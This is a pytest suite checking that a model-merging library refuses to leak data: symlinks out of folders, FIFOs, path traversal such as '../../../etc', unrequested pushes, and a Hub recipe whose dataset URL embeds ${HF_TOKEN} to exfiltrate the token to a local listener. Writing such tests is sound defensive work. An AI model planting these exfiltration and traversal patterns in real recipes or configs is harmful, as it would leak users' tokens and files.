"""Nothing leaves the machine that the user did not give (issue 28, part A): ingredient files are
read and copied only when they are regular files inside their folder, a recipe from the Hub reads
no environment and names Hub repos only, pushes go where the user typed, network calls time out.
Each refusal names the file or field, changes no input or old output, and leaves nothing behind."""
import hashlib
import json
import os
import re
import shutil
import socket
import tempfile
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import yaml

from hf_ame import AMEConfig, AMEMerger
from hf_ame.checkpoints import CheckpointError
from hf_ame.cli import main
from hf_ame.errors import IngredientError, PushError
from hf_ame.publish import push_folder
from hf_ame.recipe import RecipeError, load_recipe
from hf_ame.testing import make_family
from hf_ame.trust import unsafe_reason

MARKER = b"hf_SECRET_TOKEN_do_not_publish"


@pytest.fixture
def llamas(tmp_path_factory):
    """3 tiny Llama fine-tunes, a fresh copy per test (tests here plant links and FIFOs in them)."""
    return [Path(p) for p in make_family("llama", tmp_path_factory.mktemp("llamas"), 3, seed=4)]


@pytest.fixture
def private_tmp(tmp_path, monkeypatch):
    """The system temp folder of this test alone, to prove no hf_ame temp folder is left in it."""
    folder = tmp_path / "systmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


@pytest.fixture
def hub(online, monkeypatch, tmp_path):
    """The test Hub as the default endpoint (as the CLI finds it), with a cache of this test's own."""
    import huggingface_hub.constants as C

    monkeypatch.setenv("HF_ENDPOINT", online.endpoint)
    monkeypatch.setattr(C, "ENDPOINT", online.endpoint)
    monkeypatch.setattr(C, "HUGGINGFACE_CO_URL_TEMPLATE", online.endpoint + "/{repo_id}/resolve/{revision}/{filename}")
    monkeypatch.setattr(C, "HF_HUB_CACHE", str(tmp_path / "hf-cache"))
    return online


@pytest.fixture
def listener():
    """A local HTTP server that records every path it is asked for (a host a recipe might name)."""
    seen = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        do_HEAD = do_GET

        def log_message(self, *args):
            pass

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", seen
    httpd.shutdown()
    httpd.server_close()


def tree_sha(*folders) -> dict:
    """sha256 of every regular file (links followed) under ``folders``."""
    return {str(p): hashlib.sha256(p.read_bytes()).hexdigest()
            for f in folders for p in sorted(Path(f).rglob("*")) if p.is_file()}


def refused(fn, error, match, watched, out, systmp):
    """``fn()`` raises ``error`` matching ``match``; ``watched`` folders are byte-identical after;
    no staging folder beside ``out`` and no hf_ame temp folder are left."""
    before = tree_sha(*watched)
    with pytest.raises(error, match=match) as info:
        fn()
    assert tree_sha(*watched) == before
    assert not [p for p in Path(out).parent.iterdir() if ".hf_ame-" in p.name]
    assert not [p for p in Path(systmp).iterdir() if "hf_ame" in p.name]
    return info.value


def soup(paths, out, **kw):
    return AMEMerger.from_pretrained([str(p) for p in paths], device_map="cpu", **kw).merge(
        AMEConfig.soup(), output_dir=out, overwrite=True, progress=False)


# ------------------------------------------------------------------ 1. symlinks in an ingredient folder

def test_symlink_out_of_an_ingredient_is_refused_or_skipped(llamas, tmp_path, private_tmp, online):
    secret = tmp_path / "secret.txt"
    secret.write_bytes(MARKER)
    out = tmp_path / "out"
    soup(llamas, out)  # an old output that a refused merge must leave as it was
    link = llamas[1] / "special_tokens_map.json"  # a file transformers reads: refused, naming it
    link.symlink_to(secret)
    err = refused(lambda: soup(llamas, out), CheckpointError, r"'special_tokens_map\.json' resolves to .*secret\.txt, "
                  r"outside the folder", [*llamas, out], out, private_tmp)
    assert str(llamas[1]) in str(err)
    link.unlink()
    (llamas[0] / "NOTES.md").symlink_to(secret)  # an extra file of the reference: skipped, with a warning naming it
    with pytest.warns(UserWarning, match=r"'NOTES\.md' resolves to .*outside the folder: not copied"):
        result = soup(llamas, out)
    assert not (out / "NOTES.md").exists() and all(MARKER not in p.read_bytes() for p in out.iterdir())
    info = result.push_to_hub("me/merged", endpoint=online.endpoint)
    pushed = online.state.repos["me/merged"].commits[info.oid]
    assert "config.json" in pushed and all(MARKER not in data for data in pushed.values())


def test_links_into_the_hub_cache_blob_store_are_read(tmp_path):
    repo = tmp_path / "hub" / "models--org--a"
    (repo / "blobs").mkdir(parents=True)
    (repo / "blobs" / "abc").write_text("{}")
    snap = repo / "snapshots" / ("0" * 40)
    snap.mkdir(parents=True)
    (snap / "config.json").symlink_to("../../blobs/abc")  # as snapshot_download lays it out
    other = tmp_path / "hub" / "models--org--b" / "blobs"
    other.mkdir(parents=True)
    (other / "def").write_text("{}")
    (snap / "tokenizer.json").symlink_to(other / "def")  # another repo's blob: not this snapshot's
    assert unsafe_reason(snap, "config.json") is None
    assert "outside the folder" in unsafe_reason(snap, "tokenizer.json")


# ------------------------------------------------------------------ 2, 3, 7. recipes from the Hub

def _hub_recipe(hub, repo_id, doc) -> None:
    hub.state.commit(repo_id, {"ame_recipe.yaml": yaml.safe_dump({"hf_ame": 1, **doc}).encode()})


def test_hub_recipe_cannot_read_the_environment(hub, listener, monkeypatch, tmp_path, private_tmp):
    url, seen = listener
    monkeypatch.setenv("HF_TOKEN", MARKER.decode())
    doc = {"models": ["org/a", "org/b"],
           "ordering": {"metric": "accuracy", "dataset": {"path": "csv", "data_files": url + "/leak/${HF_TOKEN}.csv"}}}
    _hub_recipe(hub, "evil/recipe", doc)
    refused(lambda: load_recipe("evil/recipe"), RecipeError,
            r"^ordering\.dataset\.data_files: .*reads an environment variable", [], tmp_path / "out", private_tmp)
    assert seen == []
    local = tmp_path / "r.yaml"  # the same recipe as a local file: the user's own, expanded as before
    local.write_text(yaml.safe_dump({"hf_ame": 1, **doc}))
    assert load_recipe(local).ordering["dataset"]["data_files"] == f"{url}/leak/{MARKER.decode()}.csv"
    assert seen == []


@pytest.mark.parametrize("doc,match", [
    ({"models": ["{folder}", "org/b"]}, r"^models\[0\]\.id: '/.*' is not a Hub repo id"),
    ({"models": ["org/a", "../../../etc"]}, r"^models\[1\]\.id: '\.\./\.\./\.\./etc' is not a Hub repo id"),
    ({"models": ["org/a", "org/b"], "base_model": "~/models/base"}, r"^base_model\.id: .* is not a Hub repo id"),
    ({"models": ["org/a", {"id": "org/b", "base": "{folder}"}]}, r"^models\[1\]\.base: .* is not a Hub repo id"),
    ({"models": ["org/a", "here/model"]}, r"^models\[1\]\.id: 'here/model' is also a path here"),
    ({"models": ["org/a", "org/b"], "ordering": {"metric": "accuracy", "dataset": {"path": "csv", "data_files":
      "{url}/x.csv"}}}, r"^ordering\.dataset\.data_files: .* reads data files from the Hub only"),
    ({"models": ["org/a", "org/b"], "ordering": {"metric": "accuracy", "dataset": {"path": "{folder}"}}},
     r"^ordering\.dataset\.path: .* is not a Hub repo id"),
], ids=["absolute", "dotdot", "home", "adapter-base", "shadowed-by-a-folder", "other-host", "dataset-folder"])
def test_hub_recipe_names_hub_repos_only(doc, match, llamas, hub, listener, monkeypatch, tmp_path, private_tmp,
                                         capsys):
    url, seen = listener
    monkeypatch.chdir(tmp_path)
    (tmp_path / "here" / "model").mkdir(parents=True)
    text = json.dumps(doc).replace("{folder}", str(llamas[0])).replace("{url}", url)
    _hub_recipe(hub, "evil/recipe", json.loads(text))
    refused(lambda: AMEMerger.from_recipe("evil/recipe", device_map="cpu"), RecipeError, match, llamas,
            tmp_path / "out", private_tmp)
    assert main(["merge", "evil/recipe", "--out", str(tmp_path / "out"), "--no-progress"]) == 2
    assert match.split(":")[0].lstrip("^").replace("\\", "") in capsys.readouterr().err
    assert not (tmp_path / "out").exists() and seen == []


def test_bare_push_goes_only_where_the_user_said(llamas, hub, tmp_path, private_tmp, capsys):
    online = hub
    for i, p in enumerate(llamas[:2]):
        online.state.add_folder(f"org/ft-{i}", p)
    doc = {"models": ["org/ft-0", "org/ft-1"], "hub": {"repo_id": "evil/collect"}}
    _hub_recipe(online, "evil/recipe", doc)
    out = tmp_path / "out"
    n = len(online.state.requests)
    assert main(["merge", "evil/recipe", "--out", str(out), "--no-progress", "--push"]) == 2
    assert "type the repo id to publish to (--push NAMESPACE/NAME)" in capsys.readouterr().err
    assert len(online.state.requests) == n and "evil/collect" not in online.state.repos  # refused before any call
    assert not out.exists() and not [p for p in private_tmp.iterdir()]
    assert main(["merge", "evil/recipe", "--out", str(out), "--no-progress", "--push", "me/mine"]) == 0  # typed: fine
    assert "me/mine" in online.state.repos and "evil/collect" not in online.state.repos
    AMEMerger.from_recipe("evil/recipe", device_map="cpu").merge(output_dir=tmp_path / "o3", progress=False)
    assert "evil/collect" not in (tmp_path / "o3" / "ame_recipe.yaml").read_text()  # not laundered into a local recipe
    local = tmp_path / "r.yaml"  # a local recipe's hub.repo_id is the user's own: a bare --push uses it
    local.write_text(yaml.safe_dump({"hf_ame": 1, "models": [str(p) for p in llamas], "hub": {"repo_id": "me/local"}}))
    assert main(["merge", str(local), "--out", str(tmp_path / "o2"), "--no-progress", "--push"]) == 0
    assert "model.safetensors" in online.state.repos["me/local"].commits[online.state.repos["me/local"].branches["main"]]


# ------------------------------------------------------------------ 4, 5. what a checkpoint folder may name

def test_shard_index_naming_files_outside_the_folder_is_refused(tmp_path, private_tmp):
    paths = make_family("llama", tmp_path / "fam", 2, seed=4, max_shard_size=20_000)
    index = paths[1] / "model.safetensors.index.json"
    original = json.loads(index.read_text())
    shard = sorted(set(original["weight_map"].values()))[0]
    shutil.copy(paths[1] / shard, tmp_path / "fam" / "x.safetensors")  # a real file, outside the folder
    out = tmp_path / "out"
    for bad in ("../x.safetensors", str(tmp_path / "fam" / "x.safetensors")):
        wm = {k: (bad if v == shard else v) for k, v in original["weight_map"].items()}
        index.write_text(json.dumps({**original, "weight_map": wm}))
        refused(lambda: soup(paths, out), CheckpointError,
                rf"model\.safetensors\.index\.json lists '{re.escape(bad)}', which is not a file name inside the folder",
                [tmp_path / "fam"], out, private_tmp)
    assert not out.exists()


def _within(seconds, fn):
    """Run ``fn`` in a thread: (its exception or None, whether it finished within ``seconds``)."""
    box = []

    def run():
        try:
            fn()
            box.append(None)
        except BaseException as exc:  # noqa: BLE001
            box.append(exc)

    t = threading.Thread(target=run, daemon=True)
    t.start()
    t.join(seconds)
    return (box[0] if box else None), not t.is_alive()


@pytest.mark.parametrize("name", ["model.safetensors", "config.json"])
def test_fifo_in_an_ingredient_is_refused_not_waited_on(name, llamas, tmp_path, private_tmp):
    fifo = llamas[1] / name
    fifo.unlink()
    os.mkfifo(fifo)
    watched = tree_sha(*llamas)
    exc, finished = _within(60, lambda: soup(llamas, tmp_path / "out"))
    assert finished, f"blocked on the FIFO {name}"
    assert isinstance(exc, CheckpointError) and f"'{name}' is a FIFO, not a regular file" in str(exc)
    assert str(llamas[1]) in str(exc) and tree_sha(*llamas) == watched
    assert not (tmp_path / "out").exists() and not list(private_tmp.iterdir())


# ------------------------------------------------------------------ 6. custom code needs consent

def test_custom_code_is_copied_only_with_trust_remote_code(llamas, tmp_path, private_tmp):
    (llamas[0] / "modeling_custom.py").write_text("raise SystemExit('custom code ran')\n")
    soup(llamas, tmp_path / "plain")
    assert not (tmp_path / "plain" / "modeling_custom.py").exists() and (tmp_path / "plain" / "config.json").exists()
    soup(llamas, tmp_path / "trusted", trust_remote_code=True)
    assert (tmp_path / "trusted" / "modeling_custom.py").read_bytes() == (llamas[0] / "modeling_custom.py").read_bytes()
    assert not list(private_tmp.iterdir())


# ------------------------------------------------------------------ 8. a Hub that never answers

def test_silent_hub_fails_within_the_timeout(monkeypatch, tmp_path, private_tmp, llamas):
    import huggingface_hub.constants as C

    monkeypatch.setattr(C, "HF_HUB_OFFLINE", False)
    monkeypatch.setattr(C, "HF_HUB_ETAG_TIMEOUT", 1)
    monkeypatch.setattr(C, "HF_HUB_DOWNLOAD_TIMEOUT", 1)
    monkeypatch.setenv("HF_HUB_DISABLE_XET", "1")
    silent = socket.socket()  # accepts connections (the kernel's backlog) and never answers
    silent.bind(("127.0.0.1", 0))
    silent.listen(64)
    endpoint = f"http://127.0.0.1:{silent.getsockname()[1]}"
    calls = [
        (lambda: AMEMerger.from_pretrained(["org/a", "org/b"], endpoint=endpoint, cache_dir=tmp_path / "cache"),
         IngredientError, r"'org/a': cannot resolve it on the Hub: the Hub did not answer within 1 s"),
        (lambda: load_recipe("org/recipe", endpoint=endpoint), RecipeError,
         r"recipe: 'org/recipe': the Hub did not answer within 1 s"),
        (lambda: push_folder(llamas[0], "me/x", endpoint=endpoint), PushError,
         r"push to 'me/x' failed while trying to create the repository: the Hub did not answer within 1 s"),
    ]
    try:
        for fn, error, match in calls:
            t0 = time.perf_counter()
            refused(fn, error, match, llamas, tmp_path / "out", private_tmp)
            assert time.perf_counter() - t0 < 30
    finally:
        silent.close()
